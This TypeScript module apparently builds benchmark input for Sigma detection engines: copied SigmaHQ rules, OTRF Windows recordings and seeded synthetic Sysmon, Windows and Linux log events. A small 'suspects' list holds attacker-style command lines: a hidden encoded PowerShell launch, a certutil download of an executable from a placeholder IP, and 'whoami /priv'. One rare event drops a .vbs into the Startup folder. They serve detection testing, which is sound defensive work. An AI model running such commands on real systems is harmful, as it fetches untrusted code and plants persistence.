// The events that the Sigma benchmark measures with, as lines of JSON, and the rules as folders: the same files for every engine.
// Recorded ones are made from the recordings beside the repository; synthetic ones come from a seed, the same on every machine.

import { copyFileSync, mkdirSync, readdirSync, readFileSync, rmSync } from "node:fs";
import { join, relative } from "node:path";
import { Glob } from "bun";
import { parseSigma, type RuleIr } from "../../../src/detect/sigma/mod.ts";
import { FieldTable, sourceRow } from "../../../src/event/mod.ts";
import { type Fields, JsonNormalizer, type RecordedEvent } from "../../../src/normalize/mod.ts";
import { readZip } from "../../corpus/zip.ts";
import { sharedData } from "../../data.ts";
import { seededRandom } from "./stats.ts";

export interface RuleFolder {
  readonly path: string;
  readonly rules: readonly RuleIr[];
}

/** Copies the rules of SigmaHQ for a product that load without further values (placeholders), each in a file of its own. */
export function ruleFolder(product: "windows" | "linux", to: string): RuleFolder {
  const from = sharedData("sigma") ?? "";
  const path = join(to, `rules-${product}`);
  rmSync(path, { recursive: true, force: true });
  const all: RuleIr[] = [];
  for (const name of readdirSync(from, { recursive: true, encoding: "utf8" }).sort()) {
    if (!/\.ya?ml$/.test(name)) continue;
    const { rules, correlations, filters } = parseSigma(readFileSync(join(from, name), "utf8"), name);
    if (rules.length !== 1 || correlations.length + filters.length > 0) continue;
    if (rules[0]!.logsource.product?.toLowerCase() !== product) continue;
    mkdirSync(join(path, name, ".."), { recursive: true });
    copyFileSync(join(from, name), join(path, name));
    all.push(rules[0]!);
  }
  return { path, rules: all };
}

/** Every record of OTRF's Windows recordings, as recorded. */
export function otrfLines(): string[] {
  const folder = sharedData("otrf") ?? "";
  const lines: string[] = [];
  for (const zip of [...new Glob("**/windows/**/*.zip").scanSync(folder)].sort())
    for (const { name, bytes } of readZip(join(folder, zip)))
      if (name.endsWith(".json") && !name.startsWith("__MACOSX/"))
        for (const line of bytes.toString("utf8").split("\n")) if (line.trim() !== "") lines.push(line.trim());
  return lines;
}

const normalizer = new JsonNormalizer(new FieldTable());

export function eventOf(line: string): RecordedEvent {
  const event = normalizer.normalize(JSON.parse(line));
  if (event === undefined) throw new Error(`Cannot make an event of ${line.slice(0, 80)}`);
  return event;
}

/**
 * The record with its log source written into it, as a collector could do: what RSigma routes by. A part that the event's source does not
 * have is `none`, so that rules which ask for one are ruled out: the best that it can be told.
 */
export function tagged(line: string): string {
  const { product, categories, services } = sourceRow(eventOf(line).source);
  const logsource = { product, category: categories[0] ?? "none", service: services[0] ?? "none" };
  return JSON.stringify({ ...(JSON.parse(line) as Fields), ...logsource });
}

/** Fields that the collectors of the recordings added to what Sysmon wrote. */
const envelope = new Set(
  (
    "Message Hostname host port @version tags type SourceModuleName SourceModuleType ProviderGuid Severity SeverityValue Keywords ThreadID " +
    "ProcessID ExecutionProcessID Version Task Opcode OpcodeValue Category AccountName AccountType UserID Domain EventReceivedTime " +
    "RecordNumber EventTime @timestamp SourceName Level TimeCreated"
  ).split(" "),
);

/** The Sysmon events of the recordings, with Sysmon's own fields only. */
export function structuredLines(recorded: readonly string[]): string[] {
  const lines: string[] = [];
  for (const line of recorded) {
    const record = JSON.parse(line) as Fields;
    if (record.Channel !== "Microsoft-Windows-Sysmon/Operational") continue;
    const { EventID, Channel, Hostname } = record;
    const fields = Object.entries(record).filter(([name]) => !envelope.has(name));
    lines.push(tagged(JSON.stringify({ EventID, Channel, Computer: Hostname, ...Object.fromEntries(fields) })));
  }
  return lines;
}

const random = seededRandom(7);
const below = (n: number): number => Math.floor(random() * n);
const pick = <T>(list: readonly T[]): T => list[below(list.length)]!;
const hex = (digits: number): string => Array.from({ length: digits }, () => below(16).toString(16)).join("");

type Program = readonly [image: string, parent: string, line: () => string];
const system = (name: string): string => `C:\\Windows\\System32\\${name}.exe`;
const installed = (name: string): string => `C:\\Program Files\\${name}.exe`;
/** Programs, who starts them and how: as on an office computer, so that hardly a rule has anything against them. */
const programs: readonly Program[] = [
  [
    system("svchost"),
    system("services"),
    () => `${system("svchost")} -k netsvcs -p -s ${pick(["Schedule", "wuauserv", "BITS", "Appinfo"])}`,
  ],
  [
    installed("Git\\cmd\\git"),
    installed("Microsoft VS Code\\Code"),
    () => `"${installed("Git\\cmd\\git")}" rev-parse --verify -q refs/heads/topic-${hex(6)}`,
  ],
  [system("conhost"), installed("Git\\cmd\\git"), () => "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"],
  [system("wbem\\WmiPrvSE"), system("svchost"), () => `${system("wbem\\wmiprvse")} -secured -Embedding`],
  [
    installed("Mozilla Firefox\\firefox"),
    installed("Mozilla Firefox\\firefox"),
    () =>
      `"${installed("Mozilla Firefox\\firefox")}" -contentproc --channel=${below(9999)}.${below(9)}.${below(1e9)} -parentBuildID 20261101 -prefsHandle ${below(9999)} -appDir "C:\\Program Files\\Mozilla Firefox\\browser" ${hex(8)} tab`,
  ],
  [
    system("SearchProtocolHost"),
    system("SearchIndexer"),
    () =>
      `"${system("SearchProtocolHost")}" Global\\UsGthrFltPipeMssGthrPipe${below(99)}_ 1 -2147483646 "Software\\Search"`,
  ],
  [
    installed("dotnet\\dotnet"),
    installed("Microsoft Visual Studio\\Common7\\IDE\\devenv"),
    () =>
      `"${installed("dotnet\\dotnet")}" build C:\\src\\app\\App${below(99)}.csproj -nologo -o C:\\src\\out\\${hex(8)}`,
  ],
];
/** What rules look for, once in fifty. */
const suspects: readonly Program[] = [
  [
    system("WindowsPowerShell\\v1.0\\powershell"),
    "C:\\Windows\\explorer.exe",
    () => `powershell.exe -nop -w hidden -enc ${hex(60)}`,
  ],
  [
    system("certutil"),
    system("cmd"),
    () =>
      `certutil.exe -urlcache -split -f http://203.0.113.${below(250)}/${hex(6)}.exe C:\\Users\\Public\\${hex(4)}.exe`,
  ],
  [system("whoami"), system("cmd"), () => "whoami /priv"],
];
const program = (): { image: string; parent: string; line: string } => {
  const [image, parent, line] = pick(below(50) === 0 ? suspects : programs);
  return { image, parent, line: line() };
};
const users = ["NT AUTHORITY\\SYSTEM", "CORP\\anna", "CORP\\ben", "CORP\\svc-backup", "NT AUTHORITY\\LOCAL SERVICE"];
const time = (): string => `2026-11-${String(1 + below(28)).padStart(2, "0")}`;
const clock = (): string => [below(24), below(60), below(60)].map((n) => String(n).padStart(2, "0")).join(":");

/** A process start as one text, as agents of syslog collectors forward it. */
function rawWindows(): object {
  const { image, parent, line } = program();
  const message = `<133>Nov 22 ${clock()} ws-${below(900)} MSWinEventLog\t1\tSecurity\t${below(1e9)}\t${time()} ${clock()}\t4688\tMicrosoft-Windows-Security-Auditing\t${pick(users)}\tN/A\tSuccess Audit\tA new process has been created.  Creator Subject:  Security ID: S-1-5-18  Account Name: ${pick(users)}  Logon ID: 0x${hex(5)}  Target Subject:  Security ID: S-1-0-0  Account Name: -  Logon ID: 0x0  Process Information:  New Process ID: 0x${hex(4)}  New Process Name: ${image}  Token Elevation Type: %%1936  Mandatory Label: S-1-16-16384  Creator Process ID: 0x${hex(4)}  Creator Process Name: ${parent}  Process Command Line: ${line}`;
  return { message, product: "windows" };
}

/** A process start as Sysmon has it. */
function processStart(): object {
  const { image, parent, line } = program();
  return {
    EventID: 1,
    Channel: "Microsoft-Windows-Sysmon/Operational",
    UtcTime: `${time()} ${clock()}.${100 + below(900)}`,
    Image: image,
    OriginalFileName: image.slice(image.lastIndexOf("\\") + 1),
    CommandLine: line,
    ParentImage: parent,
    ParentCommandLine: `"${parent}"`,
    User: pick(users),
    IntegrityLevel: pick(["Medium", "High", "System"]),
    CurrentDirectory: "C:\\Windows\\system32\\",
    ProcessId: below(65536),
    Hashes: `SHA256=${hex(64)},IMPHASH=${hex(32)}`,
    product: "windows",
    category: "process_creation",
    service: "sysmon",
  };
}

/** A file written, with its event id as text, as some forwarders have it. */
function fileEvent(): object {
  const ending = pick(["tmp", "log", "dll", "json", "obj"]);
  const startup = "C:\\Users\\anna\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup";
  const folder = pick([
    "C:\\Users\\anna\\AppData\\Local\\Temp",
    "C:\\Windows\\Temp",
    "C:\\ProgramData\\App",
    "D:\\build\\out",
  ]);
  return {
    EventID: "11",
    Channel: "Microsoft-Windows-Sysmon/Operational",
    UtcTime: `${time()} ${clock()}.${100 + below(900)}`,
    Image: program().image,
    TargetFilename: below(50) === 0 ? `${startup}\\${hex(6)}.vbs` : `${folder}\\${hex(8)}\\${hex(12)}.${ending}`,
    ProcessId: below(65536),
    User: pick(users),
    product: "windows",
    category: "file_event",
    service: "sysmon",
  };
}

/** A line of a Linux system's log. */
function syslog(): object {
  const ip = `203.0.113.${below(250)}`;
  const [service, message] = pick([
    ["sshd", `Accepted publickey for deploy from ${ip} port ${below(65536)} ssh2: ED25519 SHA256:${hex(43)}`],
    ["sshd", `Connection closed by authenticating user root ${ip} port ${below(65536)} [preauth]`],
    [
      "sudo",
      `anna : TTY=pts/${below(9)} ; PWD=/home/anna ; USER=root ; COMMAND=/usr/bin/systemctl restart app-${hex(3)}`,
    ],
    ["sshd", below(20) === 0 ? "fatal: buffer_get_string: bad string length" : `Disconnected from ${ip} port 22`],
    ["cron", `(root) CMD (run-parts --report /etc/cron.hourly # ${hex(6)})`],
    ["syslog", `systemd[1]: Started session-${below(9999)}.scope - Session ${below(9999)} of User deploy.`],
  ] as const);
  return {
    timestamp: `${time()}T${clock()}Z`,
    host: `web-${below(40)}`,
    message,
    product: "linux",
    service,
    category: "none",
  };
}

const syntheticCount = 20_000;
const synthetic = (make: () => object): string[] =>
  Array.from({ length: syntheticCount }, () => JSON.stringify(make()));

export interface Lane {
  readonly name: string;
  /** Whether the aims are about it; others are reported. */
  readonly decides: boolean;
  readonly rules: "windows" | "linux";
  /** Whether the events carry their log source as fields. */
  readonly tagged: boolean;
  readonly lines: () => string[];
}

export const lanes: readonly Lane[] = [
  { name: "OTRF recordings", decides: true, rules: "windows", tagged: false, lines: otrfLines },
  {
    name: "structured Sysmon",
    decides: true,
    rules: "windows",
    tagged: true,
    lines: () => structuredLines(otrfLines()),
  },
  {
    name: "OTRF, log source added",
    decides: false,
    rules: "windows",
    tagged: true,
    lines: () => otrfLines().map(tagged),
  },
  {
    name: "process starts, synthetic",
    decides: false,
    rules: "windows",
    tagged: true,
    lines: () => synthetic(processStart),
  },
  { name: "file events, synthetic", decides: false, rules: "windows", tagged: true, lines: () => synthetic(fileEvent) },
  {
    name: "raw Windows texts, synthetic",
    decides: false,
    rules: "windows",
    tagged: true,
    lines: () => synthetic(rawWindows),
  },
  { name: "Linux syslog, synthetic", decides: false, rules: "linux", tagged: true, lines: () => synthetic(syslog) },
];

/** `path` below the working directory, as programs that run there are told it. */
export const shortPath = (path: string): string => relative(process.cwd(), path);
